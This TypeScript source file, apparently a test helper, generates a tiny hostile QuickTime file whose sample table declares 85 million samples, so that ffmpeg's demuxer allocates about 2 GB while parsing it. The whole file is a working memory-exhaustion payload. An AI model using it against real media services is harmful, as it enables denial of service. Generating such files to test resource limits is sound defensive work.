/**
 * A hostile QuickTime file: a few hundred bytes whose sample table declares
 * `samples` samples (85 million by default) of one byte each, all in one
 * chunk. No table has to list them (one stts entry, a constant sample size,
 * one chunk), but ffmpeg's MOV demuxer builds one index entry per sample
 * (24 bytes each) before reading a byte of audio: about 2 GB for 85 million.
 */
const box = (type: string, ...payload: Buffer[]): Buffer => {
  const body = Buffer.concat(payload);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
const u32 = (...values: number[]): Buffer => {
  const b = Buffer.alloc(4 * values.length);
  values.forEach((v, i) => b.writeUInt32BE(v >>> 0, 4 * i));
  return b;
};
const u16 = (...values: number[]): Buffer => {
  const b = Buffer.alloc(2 * values.length);
  values.forEach((v, i) => b.writeUInt16BE(v, 2 * i));
  return b;
};
const fullBox = (type: string, ...payload: Buffer[]): Buffer => box(type, u32(0), ...payload);
const MATRIX = u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000);

export function movMemoryBomb(samples = 85_000_000, padTo = 3000): Buffer {
  const rate = 8000;
  const ftyp = box('ftyp', Buffer.from('qt  ', 'latin1'), u32(0), Buffer.from('qt  ', 'latin1'));
  // A u-law sample entry (QuickTime sound description, version 0).
  const ulaw = box('ulaw', Buffer.alloc(6), u16(1), u16(0, 0), u32(0), u16(1, 16, 0, 0), u32(rate * 65536));
  // A duration per sample of 2, not 1: with 1 the demuxer reads PCM in 1024-sample chunks and builds a small index.
  const stbl = box(
    'stbl',
    fullBox('stsd', u32(1), ulaw),
    fullBox('stts', u32(1, samples, 2)),
    fullBox('stsc', u32(1, 1, samples, 1)),
    fullBox('stsz', u32(1, samples)),
    fullBox('stco', u32(1, 0)),
  );
  const minf = box('minf', fullBox('smhd', u32(0)), box('dinf', fullBox('dref', u32(1), box('url ', u32(1)))), stbl);
  const mdia = box(
    'mdia',
    fullBox('mdhd', u32(0, 0, rate, samples * 2), u16(0, 0)),
    fullBox('hdlr', u32(0), Buffer.from('soun', 'latin1'), u32(0, 0, 0), Buffer.from('sound\0', 'latin1')),
    minf,
  );
  const tkhd = fullBox('tkhd', u32(0, 0, 1, 0, samples * 2, 0, 0), u16(0, 0, 0x0100, 0), MATRIX, u32(0, 0));
  tkhd.writeUInt32BE(0x7, 8); // flags: enabled, in movie, in preview
  const mvhdTimes = u32(0, 0, rate, samples * 2, 0x10000);
  const mvhd = fullBox('mvhd', mvhdTimes, u16(0x0100), Buffer.alloc(10), MATRIX, Buffer.alloc(24), u32(2));
  const moov = box('moov', mvhd, box('trak', tkhd, mdia));
  const head = Buffer.concat([ftyp, moov]);
  const mdat = box('mdat', Buffer.alloc(Math.max(16, padTo - head.length - 8), 0x7f));
  const file = Buffer.concat([head, mdat]);
  // The one chunk starts at the mdat's data.
  const stco = file.indexOf(Buffer.from('stco', 'latin1'));
  file.writeUInt32BE(head.length + 8, stco + 12);
  return file;
}
